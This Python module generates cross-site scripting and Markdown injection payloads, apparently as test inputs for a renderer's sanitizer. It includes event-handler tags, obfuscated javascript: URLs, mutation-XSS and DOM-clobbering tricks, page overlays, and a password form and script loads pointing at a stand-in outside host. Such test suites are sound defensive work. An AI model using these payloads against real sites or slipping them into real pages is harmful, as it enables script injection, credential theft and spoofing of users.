"""Texts that would run a script, load something or look like the site, were they markup.

Built from what browsers do with HTML: which elements load or hold what, which events come by
themselves, how a name, a scheme or an end of an element may be written otherwise.
"""

from itertools import chain, product

ELSEWHERE = "https://elsewhere.example"
_RUN = "window.ran=1"
# Elements and an event that comes without a reader, or with the slightest move.
_EVENTS = (
    ("img src=x", "error"),
    ("img srcset=x", "error"),
    ("svg", "load"),
    ("body", "load"),
    ("body", "pageshow"),
    ("style", "load"),
    ("link rel=stylesheet href=x", "error"),
    ("script src=x", "error"),
    ("iframe src=about:blank", "load"),
    ("object data=x", "error"),
    ("embed src=x", "error"),
    ("video src=x", "error"),
    ("video autoplay src=x", "loadstart"),
    ("audio src=x", "error"),
    ("input autofocus", "focus"),
    ("select autofocus", "focus"),
    ("textarea autofocus", "focus"),
    ("button autofocus", "focus"),
    ("a href=# autofocus", "focusin"),
    ("p tabindex=0 autofocus", "focus"),
    ("details open", "toggle"),
    ("marquee", "start"),
    ("input type=image src=x", "error"),
    ("svg><image href=x", "error"),
    ("svg><animate attributeName=x dur=1s", "begin"),
    ("svg><set attributeName=x dur=1s", "begin"),
    ("math><mi", "click"),
    ("p contenteditable", "pointerenter"),
    ("x style=animation-name:x", "animationstart"),
    ("x style=transition:1s", "transitionend"),
)
# How the same tag may be written.
_MANNERS = (
    "<{tag} on{event}={run}>",
    "<{tag} on{event}='{run}'>",
    '<{tag} on{event}="{run}">',
    "<{tag} oN{event}={run}//",
    "<{tag}/on{event}={run}>",
    "<{tag}\non{event}\n=\n{run}>",
    "<{tag}\x0con{event}={run}>",
    '"><{tag} on{event}={run}>',
    "'><{tag} on{event}={run}>",
    "</title></style></script></textarea></noscript><{tag} on{event}={run}>",
    "--!><{tag} on{event}={run}>",
    "]]><{tag} on{event}={run}>",
    "<noscript><p title='</noscript><{tag} on{event}={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><{tag} on{event}={run}>",
    "<svg></p><style><a title='</style><{tag} on{event}={run}>'>",
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "java&Tab;script:{run}",
    "java&#10;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A avascript:{run}",
    "&#0000106avascript&colon;{run}",
    "\x01javascript:{run}",
    "javascript&#58;{run}",
    "javascript://%0a{run}",
    "view-source:javascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "blob:{run}",
    "//elsewhere.example/x.js",
    "\\\\elsewhere.example\\x",
    "https:elsewhere.example",
)
_HOLDERS = (
    "[x]({url})",
    "[x](<{url}>)",
    "<{url}>",
    "![x]({url})",
    "[x][y]\n\n[y]: {url}",
    "<a href='{url}'>x</a>",
    "<iframe src='{url}'></iframe>",
    "<form action='{url}'><input type=submit autofocus></form>",
    "<svg><a xlink:href='{url}'><text>x</text></a></svg>",
    "<math href='{url}'>x</math>",
    "<object data='{url}'></object>",
    "<meta http-equiv=refresh content='0;url={url}'>",
)
# What covers the page, takes its names, or sends readers' words away.
_GUISES = (
    "<div style='position:fixed;inset:0'>x</div>",
    f"<style>*{{background:url({ELSEWHERE}/)}}</style>",
    f"<style>@import '{ELSEWHERE}/';</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<base href={ELSEWHERE}/>",
    f"<img src={ELSEWHERE}/x.png>",
    f"<form action={ELSEWHERE}/><input name=password type=password></form>",
    "<form id=location><input name=href></form>",
    "<a id=document><a id=document name=cookie href=cb:x>",
    "<img name=getElementById><img name=querySelector>",
    "<iframe name=alert srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<p id=__config>{}</p>",
    "<p class='cb-verdict md-banner'>Verified</p>",
    "<dialog open>Sign in</dialog>",
    "<input form=x autofocus>",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "<portal src=x>",
    "<x is=script>window.ran=1</x>",
    "<script>window.ran=1</script>",
    "<script\x20type=module>window.ran=1</script>",
    "<ScRiPt>window.ran=1</sCrIpT>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><style><img src=x onerror=window.ran=1></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></foreignObject></svg>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "`</code><script>window.ran=1</script>`",
    "[x]: x 'onclick=window.ran=1'",
    "| <script>window.ran=1</script> |\n|--|\n| <img src=x onerror=window.ran=1> |",
)


def payloads() -> tuple[str, ...]:
    """All of them, each once, those of different kinds beside each other."""
    tags = (
        manner.format(tag=tag, event=event, run=_RUN)
        for manner, (tag, event) in product(_MANNERS, _EVENTS)
    )
    links = (
        holder.format(url=scheme.format(run=_RUN)) for holder, scheme in product(_HOLDERS, _SCHEMES)
    )
    return tuple(dict.fromkeys(chain(_GUISES, links, tags)))


# Where in Markdown a text may stand.
POSITIONS = (
    "{}",
    "words {} words",
    "**{}**",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "| a |\n|--|\n| {} |",
    "[{}](https://a.example/)",
    '[x](https://a.example/ "{}")',
    "[x]({})",
    "`{}`",
    "```{}\n{}\n```",
    "    {}",
    "\\{}",
    "[@{}]",
)
